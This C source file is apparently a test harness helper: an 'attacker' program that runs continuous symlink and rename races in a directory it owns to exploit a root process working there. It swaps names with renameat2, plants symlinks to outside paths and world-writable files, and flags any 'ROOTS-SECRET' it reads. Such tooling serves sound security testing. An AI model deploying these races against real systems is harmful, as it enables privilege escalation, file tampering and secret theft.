/*
 * What the owner of a directory can do to root who works in it, as fast as it can be done. Runs until its parent is
 * gone or SIGTERM.
 *
 *   attacker exchange A B          swaps two names for ever
 *   attacker steal DIR OUTSIDE FLAG  goes for whatever appears in DIR: reads it, swaps it for a link to OUTSIDE or for
 *                                  a file of its own that everybody may write; FLAG is made if a secret was read
 *   attacker hold FILE             opens FILE for writing, prints a line, writes when told to on standard input
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void captured(const char *path, const char *flag)
{
	char text[64] = "";
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
	if (fd < 0)
		return;
	if (read(fd, text, sizeof text - 1) > 0 && strstr(text, "ROOTS-SECRET"))
		close(open(flag, O_WRONLY | O_CREAT, 0666));
	close(fd);
}

static void steal(const char *outside, const char *flag)
{
	static unsigned turn;
	DIR *dir = opendir(".");
	struct dirent *e;
	if (!dir)
		return;
	while ((e = readdir(dir))) {
		char path[512], mine[64];
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strncmp(e->d_name, "my-", 3))
			continue;
		captured(e->d_name, flag);
		snprintf(mine, sizeof mine, "my-%u", turn % 64);
		unlink(mine);
		switch (turn++ % 4) {
		case 0:
			if (!symlink(outside, mine))
				renameat2(AT_FDCWD, mine, AT_FDCWD, e->d_name, RENAME_EXCHANGE);
			break;
		case 1: {
			int fd = open(mine, O_RDWR | O_CREAT, 0666);
			if (fd >= 0) {
				fchmod(fd, 0666);
				renameat2(AT_FDCWD, mine, AT_FDCWD, e->d_name, RENAME_EXCHANGE);
				close(fd);
			}
			break;
		}
		case 2:
			snprintf(path, sizeof path, "%s/target", outside);
			if (!symlink(path, mine))
				rename(mine, e->d_name);
			break;
		default:
			unlink(e->d_name);
			rmdir(e->d_name);
		}
		captured(mine, flag);
	}
	closedir(dir);
}

int main(int argc, char **argv)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (argc == 4 && !strcmp(argv[1], "exchange")) {
		puts("ready");
		fflush(stdout);
		for (;;)
			renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
	}
	if (argc == 5 && !strcmp(argv[1], "steal")) {
		if (chdir(argv[2]))
			return 1;
		puts("ready");
		fflush(stdout);
		for (;;)
			steal(argv[3], argv[4]);
	}
	if (argc == 3 && !strcmp(argv[1], "hold")) {
		int fd = open(argv[2], O_WRONLY);
		puts(fd < 0 ? "denied" : "ready");
		fflush(stdout);
		getchar();
		return write(fd, "ATTACKER", 8) == 8 ? 0 : 1;
	}
	return 2;
}
